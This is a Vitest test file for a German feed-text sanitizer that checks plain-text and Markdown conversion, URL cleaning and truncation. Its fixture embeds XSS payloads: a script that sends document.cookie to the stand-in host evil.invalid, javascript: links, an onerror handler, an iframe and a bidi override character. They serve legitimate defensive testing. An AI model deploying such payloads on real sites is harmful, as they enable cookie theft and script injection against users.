import { describe, expect, it } from 'vitest';
import { cleanUrl, cut, plainText, safeMarkdown } from './sanitize';

describe('imported text', () => {
  const hostile =
    '<p>Ein Abend <b onclick="steal()">unter freiem Himmel</b>.</p><script>document.location="https://evil.invalid/?c="+document.cookie</script>' +
    '<iframe src="https://evil.invalid/frame"></iframe><p><a href="javascript:alert(1)">Gewinnspiel</a> und ' +
    '<a href="https://test.invalid/karten?utm_source=feed&amp;gclid=1&amp;reihe=5">Karten</a>.</p><img src=x onerror=alert(1)>[klick](javascript:alert(2)) \u202eevil\u202c';

  it('becomes plain text without markup, scripts, frames or script links', () => {
    const text = plainText(hostile);
    expect(text).toBe('Ein Abend unter freiem Himmel. Gewinnspiel und Karten. klick evil');
    expect(text).not.toMatch(/<|script|iframe|javascript|onerror|cookie|\u202e/);
  });

  it('becomes safe Markdown: allowed emphasis and http links stay, everything else is text', () => {
    const md = safeMarkdown(hostile);
    expect(md).toContain('**unter freiem Himmel**');
    expect(md).toContain('[Karten](<https://test.invalid/karten?reihe=5>)');
    expect(md).not.toMatch(/javascript|<script|<iframe|<img|onclick|utm_|gclid|cookie/);
  });

  it('escapes text that Markdown or HTML would read as markup', () => {
    const md = safeMarkdown('Eintritt &lt;script&gt;alert(1)&lt;/script&gt; # frei * [x](y)');
    expect(md).not.toContain('<script>');
    expect(md).toContain('\\<script\\>');
    expect(md).toContain('\\#');
  });

  it('keeps paragraphs and line breaks of plain feed text', () => {
    expect(safeMarkdown('Erste Zeile\nzweite Zeile\n\nNeuer Absatz')).toBe('Erste Zeile  \nzweite Zeile\n\nNeuer Absatz');
  });

  it('removes tracking parameters and refuses other schemes', () => {
    expect(cleanUrl('https://a.invalid/x?utm_source=n&utm_medium=e&id=3&fbclid=z#top')).toBe('https://a.invalid/x?id=3#top');
    expect(cleanUrl('javascript:alert(1)')).toBeUndefined();
    expect(cleanUrl('data:text/html,<script>')).toBeUndefined();
    expect(cleanUrl('https://user:pw@a.invalid/')).toBeUndefined();
  });

  it('cuts overlong text at a word with an ellipsis', () => {
    const [text, wasCut] = cut('Ein sehr langer Titel mit vielen Wörtern darin', 20);
    expect(wasCut).toBe(true);
    expect(text).toBe('Ein sehr langer…');
    expect(text.length).toBeLessThanOrEqual(20);
    expect(cut('kurz', 20)).toEqual(['kurz', false]);
  });
});
